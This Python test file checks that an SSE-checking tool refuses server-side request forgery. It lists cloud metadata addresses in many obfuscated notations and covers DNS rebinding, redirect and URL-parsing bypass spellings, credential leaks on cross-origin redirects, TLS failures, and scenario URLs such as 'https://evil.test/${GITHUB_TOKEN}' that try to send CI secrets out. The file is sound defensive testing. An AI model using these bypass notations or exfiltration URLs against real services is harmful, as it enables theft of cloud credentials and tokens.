"""Secrets never leave, and neither a scenario nor a server turns the machine on its own network; each attempt is a case of its own."""

import asyncio
import socket
import ssl
import tempfile
import time
import warnings
from collections.abc import AsyncIterator, Callable, Coroutine, Iterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Final
from unittest.mock import patch

import trustme

from sse_check.hosts import host_allowed
from sse_check.pipeline import check
from sse_check.plan import StreamPlan
from sse_check.probe import Stop, observe
from sse_check.recording import StreamRecording
from sse_check.redaction import Redactor
from sse_check.scenario import (
    BatchFallback,
    Fallback,
    Probe,
    Scenario,
    ScenarioError,
    Target,
    Tls,
    Until,
    Variables,
    WebSocketFallback,
    load,
)
from sse_check.transport import Request
from tests.hostile import echoes
from tests.hostile.row import Row
from tests.support.servers import SSE_HEAD, answering, chunk, raw_server

Attempt = Callable[[], Coroutine[None, None, tuple[str, bool]]]
STREAM: Final = answering(SSE_HEAD + b"".join(chunk(b"data: %d\n\n" % n) for n in range(3)) + chunk(b""))


@dataclass(frozen=True, slots=True)
class Case:
    """One attempt; `run` says in a few words what happened, and whether what is promised held."""

    attempt: str
    run: Attempt


def rows() -> Iterator[Row]:
    """Every case, one after the other."""
    for case in CASES:
        seen, held = asyncio.run(case.run())
        yield Row(part="secrets", attempt=case.attempt, seen=seen.replace("|", "/").replace("\n", " "), held=held)


async def observed(url: str, *, hosts: tuple[str, ...] | None = None, **request: object) -> StreamRecording:
    """One stream of this URL, whatever a scenario's reader would say to it."""
    asked = Request(**{"method": "GET", "url": url, "headers": (), "connect_timeout": 2.0, **request})  # type: ignore[arg-type]  # fields by name
    plan = StreamPlan(probe="p", stream=1, phase="stream", request=asked, until=Until(events=3), timeout=3.0, hosts=hosts)
    return await observe(plan, clock=time.monotonic_ns, redactor=Redactor(), run_started_ns=0, stop=Stop())


# --- echoes -------------------------------------------------------------------------------------------------------------


def _echoed(run: Callable[[str, Path, echoes.Pairs], dict[str, bytes]], pairs: echoes.Pairs) -> Attempt:
    async def attempt() -> tuple[str, bool]:
        with tempfile.TemporaryDirectory() as directory:
            async with raw_server(echoes.echo()) as base:
                left = await asyncio.to_thread(run, base, Path(directory), pairs)
        found = echoes.leaks(left)
        removed = sum(raw.count(b"***") for raw in left.values())
        seen = f"{len(left)} exits, {sum(map(len, left.values())):,} bytes, {removed:,} times ***, {len(found)} secrets found {found[:3] or ''}"
        return seen, not found and removed > 2 * len(pairs)

    return attempt


# --- addresses ----------------------------------------------------------------------------------------------------------

FORBIDDEN: Final = (
    "169.254.169.254", "169.254.170.2", "2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "１６９.254.169.254", "169.254.169.254.",
    "[::ffff:169.254.169.254]", "[::ffff:a9fe:a9fe]", "[::169.254.169.254]", "[64:ff9b::a9fe:a9fe]", "[64:ff9b:1::a9fe:a9fe]", "[2002:a9fe:a9fe::1]",
    "[fe80::1%25lo]", "[fe80::a9fe:a9fe]", "[fd00:ec2::254]", "[fd20:ce::254]", "168.63.129.16", "100.100.100.200", "192.0.0.192",
    "metadata.google.internal", "METADATA.google.internal.",
)  # fmt: skip
_ADDRESSES: Final = (
    "169.254.169.254",
    "::ffff:169.254.169.254",
    "fe80::1",
    "fd00:ec2::254",
    "168.63.129.16",
    "100.100.100.200",
    "192.0.0.192",
)


@asynccontextmanager
async def connections() -> AsyncIterator[list[object]]:
    """The connections that are begun meanwhile, by their addresses."""
    made: list[object] = []
    real = asyncio.get_running_loop().sock_connect

    async def connect(sock: socket.socket, address: object) -> None:
        made.append(address)
        await real(sock, address)  # type: ignore[arg-type]  # as given

    with patch.object(asyncio.get_running_loop(), "sock_connect", connect):
        yield made


async def _literals() -> tuple[str, bool]:
    async with connections() as made:
        ended = [await observed(f"http://{host}/latest/meta-data/") for host in FORBIDDEN]
    told = [s.reason == "policy" and "never asked" in (s.error or "") for s in ended]
    return f"{sum(told)} of {len(told)} refused, {len(made)} connections begun", all(told) and not made


async def _read() -> tuple[str, bool]:
    refused = 0
    for host in FORBIDDEN:
        for text in (f"target: {{url: 'http://{host}/'}}\nprobes: [{{name: a, path: /}}]", f"probes: [{{name: a, url: 'http://{host}/'}}]"):
            try:
                load(f"version: 1\n{text}\n".encode(), file="s.yml")
            except ScenarioError as error:
                refused += "is never asked" in str(error)
    return f"{refused} of {2 * len(FORBIDDEN)} scenarios are mistakes, before anything is sent", refused == 2 * len(FORBIDDEN)


async def _looked_up() -> tuple[str, bool]:
    async with connections() as made:
        ended = [await observed("http://app.example.test/", addresses={"app.example.test": address}) for address in _ADDRESSES]
    told = [s.reason == "policy" and a in (s.error or "") for s, a in zip(ended, _ADDRESSES, strict=True)]
    return f"{sum(told)} of {len(told)} names refused, {len(made)} connections begun: {ended[0].error}", all(told) and not made


async def _among_others() -> tuple[str, bool]:
    """A name that leads to a metadata service as well as to this machine."""
    async with raw_server(STREAM) as base, connections() as made:
        url = base.replace("127.0.0.1", "app.example.test")
        stream = await observed(url, addresses={"app.example.test": "169.254.169.254, 127.0.0.1, fe80::1"})
    asked = [address[0] for address in made]  # type: ignore[index]  # pairs
    return f"{len(stream.events)} events from {stream.peer}; asked: {asked}", len(stream.events) == 3 and asked == ["127.0.0.1"]


async def _rebound() -> tuple[str, bool]:
    """A name that leads to this machine the first time, and to the metadata service each time after."""
    asked: list[str] = []
    real = socket.getaddrinfo

    def lookup(host: str, port: int, *rest: object, **more: object) -> object:
        if host != "rebinding.example.test":
            return real(host, port, *rest, **more)  # type: ignore[arg-type]  # as given
        asked.append(host)
        address = "127.0.0.1" if len(asked) == 1 else "169.254.169.254"
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (address, port))]

    async with raw_server(STREAM) as base, connections() as made:
        with patch("socket.getaddrinfo", lookup):
            url = base.replace("127.0.0.1", "rebinding.example.test")
            first = await observed(url)
            await asyncio.sleep(1.2)  # for a second a look-up is shared
            second = await observed(url)
    held = len(first.events) == 3 and second.reason == "policy" and {address[0] for address in made} == {"127.0.0.1"}  # type: ignore[index]  # pairs
    return f"one look-up a connection; first {first.ended} at {first.peer}, then {second.error}", held and len(asked) == 2


async def _redirected() -> tuple[str, bool]:
    told, made_in_all = 0, 0
    for host in FORBIDDEN:
        location = f"HTTP/1.1 307 T\r\nLocation: http://{host}/\r\nContent-Length: 0\r\n\r\n".encode()
        async with raw_server(answering(location)) as base, connections() as made:
            stream = await observed(base)
        told += stream.reason == "policy"
        made_in_all += len(made) - 1
    return f"{told} of {len(FORBIDDEN)} not followed, {made_in_all} connections beyond the first", told == len(
        FORBIDDEN
    ) and not made_in_all


async def _fallbacks() -> tuple[str, bool]:
    """A WebSocket and a batch request, by address and by name."""
    options = [
        Fallback(websocket=WebSocketFallback(url="ws://169.254.169.254/")), Fallback(batch=BatchFallback(url="http://[::ffff:a9fe:a9fe]/")),
        Fallback(websocket=WebSocketFallback(url="ws://named.example.test/")), Fallback(batch=BatchFallback(url="http://named.example.test/")),
    ]  # fmt: skip
    target = Target(resolve={"named.example.test": "169.254.169.254"})
    async with raw_server(answering(b"HTTP/1.1 500 O\r\nContent-Length: 0\r\n\r\n")) as base:
        asked = Scenario(version=1, target=target, probes=(Probe(name="p", url=base),), fallbacks=tuple(options), follow_up=False)
        tried = (await check(asked)).recording.fallbacks
    told = [not one.worked and "never asked" in one.detail for one in tried]
    return f"{sum(told)} of 4 refused: {tried[-1].detail}", told == [True] * 4


async def _through_a_proxy() -> tuple[str, bool]:
    asked: list[bytes] = []

    async def proxy(request: bytes, writer: asyncio.StreamWriter) -> None:
        asked.append(request)

    async with raw_server(proxy) as base:
        with patch.dict("os.environ", {"HTTP_PROXY": base, "HTTPS_PROXY": base}):
            ended = [await observed(f"{scheme}://{host}/") for host in FORBIDDEN[:12] for scheme in ("http", "https")]
    return f"{len(ended)} addresses, {len(asked)} reached the proxy", not asked and all(s.reason == "policy" for s in ended)


async def _inwards() -> tuple[str, bool]:
    inside = ("127.0.0.1", "10.0.0.1", "::1", "192.168.1.1", "::ffff:10.0.0.1", "0.0.0.0")
    ended = [await observed(f"http://{f'[{host}]' if ':' in host else host}/", public_only=True) for host in inside]
    told = [s.reason == "policy" and "not followed" in (s.error or "") for s in ended]
    return f"{sum(told)} of {len(told)} refused: {ended[0].error}", all(told)


# --- hosts that are allowed -------------------------------------------------------------------------------------------------

# A URL, a pattern, and whether it allows it.
SPELLINGS: Final = (
    ("https://app.example.test/", "*.example.test", True),
    ("https://APP.Example.TEST./", "app.example.test", True),
    ("https://app.example.test/", "App.Example.Test.", True),
    ("https://bücher.test/", "xn--bcher-kva.test", True),
    ("https://xn--bcher-kva.test/", "BÜCHER.test", True),
    ("https://app.example.test:8443/", "app.example.test:8443", True),
    ("https://app.example.test/", "app.example.test:8443", False),
    ("http://[::1]:8080/", "[::1]:8080", True),
    ("http://[0:0:0:0:0:0:0:1]/", "::1", True),
    ("http://[::1]/", "127.0.0.1", False),
    ("http://2130706433/", "127.0.0.1", True),
    ("http://0x7f.1/", "127.*", True),
    ("http://127.evil.test/", "127.*", False),
    ("http://good.test@evil.test/", "good.test", False),
    ("http://evil.test/@good.test", "good.test", False),
    ("http://evil.test?@good.test", "good.test", False),
    ("http://evil.test#@good.test", "good.test", False),
    ("http://evil.test\\@good.test/", "good.test", False),
    ("http://evil.test%2f.good.test/", "*.good.test", False),
    ("http://evil.test%00.good.test/", "*.good.test", False),
    ("http://evilgood.test/", "good.test", False),
    ("http://good.test.evil.test/", "good.test", False),
)


async def _spelled() -> tuple[str, bool]:
    wrong = [f"{url} by {pattern}" for url, pattern, allowed in SPELLINGS if host_allowed(url, (pattern,)) is not allowed]
    return f"{len(SPELLINGS) - len(wrong)} of {len(SPELLINGS)} spellings decided as they are asked {wrong or ''}", not wrong


async def _elsewhere() -> tuple[str, bool]:
    """A redirect to a host that is not on the list."""
    async with raw_server(STREAM) as other:
        location = f"HTTP/1.1 302 F\r\nLocation: {other.replace('127.0.0.1', '2130706434')}/\r\nContent-Length: 0\r\n\r\n".encode()
        async with raw_server(answering(location)) as base, connections() as made:
            stream = await observed(base, hosts=("127.0.0.1",))
    return f"{stream.error}, {len(made)} connection", stream.reason == "policy" and len(made) == 1


# --- redirects to another origin ----------------------------------------------------------------------------------------------


def _carried(status: int, method: str) -> Attempt:
    async def attempt() -> tuple[str, bool]:
        got: list[bytes] = []

        async def other(request: bytes, writer: asyncio.StreamWriter) -> None:
            got.append(request)
            await STREAM(request, writer)

        secret = "Zk7Qw9Lm3Xc5"
        async with raw_server(other) as elsewhere:
            moved = f"HTTP/1.1 {status} M\r\nLocation: {elsewhere}/\r\nContent-Length: 0\r\n\r\n".encode()
            async with raw_server(answering(moved)) as base:
                headers = tuple((name, f"Bearer {secret}") for name in ("Authorization", "X-Custom", "Cookie", "Proxy-Authorization"))
                url = base.replace("//", f"//me:{secret}@") + f"/?token={secret}"
                body = secret.encode() if method == "POST" else None
                stream = await observed(url, method=method, headers=headers, body=body)
        carried = [request for request in got if secret.encode() in request or b"uthorization" in request]
        said = stream.error or f"{len(stream.events)} events there"
        return f"{len(got)} requests there, {len(carried)} with a secret; {said}", not carried and (bool(got) or stream.reason == "policy")

    return attempt


# --- TLS ------------------------------------------------------------------------------------------------------------------


def _server(authority: trustme.CA, kind: str) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    past = datetime(2020, 1, 1, tzinfo=UTC)
    if kind == "expired":
        authority.issue_cert("127.0.0.1", not_after=past).configure_cert(context)
    else:
        authority.issue_cert("other.example.test" if kind == "wrong host" else "127.0.0.1").configure_cert(context)
    if kind == "old protocol":
        context.set_ciphers("ALL:@SECLEVEL=0")
        with warnings.catch_warnings(action="ignore"):  # that it is old is the point
            context.minimum_version = context.maximum_version = ssl.TLSVersion.TLSv1_1
    return context


def _tls(kind: str, said: str) -> Attempt:
    async def attempt() -> tuple[str, bool]:
        authority = trustme.CA()
        with tempfile.TemporaryDirectory() as directory:
            ca = str(Path(directory, "ca.pem"))
            (trustme.CA() if kind == "unknown authority" else authority).cert_pem.write_to_path(ca)
            async with raw_server(STREAM, tls=_server(authority, kind)) as base:
                target = Target(url=base, tls=Tls(ca=ca))
                result = (await check(Scenario(version=1, target=target, probes=(Probe(name="p", path="/"),), follow_up=False))).result
        told = "; ".join(f"{f.code}: {f.message}" for f in result.findings)
        held = result.verdict == "not-viable" and [f.code for f in result.findings] == ["refused"] and said in told
        return told[:200], held and result.findings[0].evidence["step"] == "tls"

    return attempt


async def _unverified() -> tuple[str, bool]:
    from sse_check.report import report_html, report_json, summary_markdown, terminal_text  # here: only this case renders

    async with raw_server(STREAM, tls=_server(trustme.CA(), "expired")) as base:
        target = Target(url=base, tls=Tls(verify=False))
        checked = await check(
            Scenario(version=1, target=target, probes=(Probe(name="p", path="/", until=Until(events=3)),), follow_up=False)
        )
    shown = {
        "terminal": terminal_text(checked.result, report_dir=None),
        "summary": summary_markdown(checked.report),
        "page": report_html(checked.report).decode(),
    }
    silent = [name for name, text in shown.items() if "not verified" not in text]
    told = b'"tls_verified": false' in report_json(checked.result)
    return f"{checked.result.verdict}; said in {len(shown) - len(silent)} of 3 texts and report.json {silent or ''}", not silent and told


# --- variables ----------------------------------------------------------------------------------------------------------------

NOT_HANDED_OVER: Final = ("GITHUB_TOKEN", "ACTIONS_RUNTIME_TOKEN", "ACTIONS_ID_TOKEN_REQUEST_TOKEN", "INPUT_SECRETS", "PATH", "HOME")


async def _variables() -> tuple[str, bool]:
    refused = 0
    with patch.dict("os.environ", dict.fromkeys(NOT_HANDED_OVER, "Zk7Qw9Lm3Xc5")):
        for name in NOT_HANDED_OVER:
            text = f"version: 1\ntarget: {{url: 'https://evil.test/${{{name}}}'}}\nprobes: [{{name: a, path: /}}]\n"
            try:
                load(text.encode(), file="s.yml", variables=Variables(values={"BASE_URL": "https://app.test"}))
            except ScenarioError as error:
                refused += f"the variable {name} was not handed over" in str(error) and "Zk7Qw9Lm" not in str(error)
    return f"{refused} of {len(NOT_HANDED_OVER)} refused before anything is sent", refused == len(NOT_HANDED_OVER)


CASES: Final = (
    Case(f"{len(echoes.SLOTS)} places × {len(echoes.ENCODINGS)} encodings of an echo, each place with one; command line", _echoed(echoes.run_cli, echoes.SOME[::2])),
    Case(f"{len(echoes.SLOTS)} places × {len(echoes.ENCODINGS)} encodings of an echo, each place with another; action", _echoed(echoes.run_action, echoes.SOME[1::2])),
    Case("metadata and link-local addresses in every notation", _literals),
    Case("the same in a scenario", _read),
    Case("names that lead there", _looked_up),
    Case("a name that leads there among others", _among_others),
    Case("a name that leads elsewhere at the second look-up (DNS rebinding)", _rebound),
    Case("redirects there", _redirected),
    Case("fallbacks there", _fallbacks),
    Case("the same addresses through a proxy", _through_a_proxy),
    Case("a redirect from the Internet into a private network", _inwards),
    Case("allowed hosts in other spellings", _spelled),
    Case("a redirect to a host that is not allowed", _elsewhere),
    *(Case(f"a {status} of a {method} to another origin: credentials, headers, cookies, body", _carried(status, method))
      for status in (301, 302, 303, 307, 308) for method in ("GET", "POST")),
    *(Case(f"TLS: {kind}", _tls(kind, said)) for kind, said in (
        ("expired", "expired"), ("wrong host", "IP address mismatch"), ("unknown authority", "unable to get local issuer"), ("old protocol", "TLS"))),
    Case("TLS: not verified, by the scenario's own word", _unverified),
    Case("variables of the environment in a scenario", _variables),
)  # fmt: skip
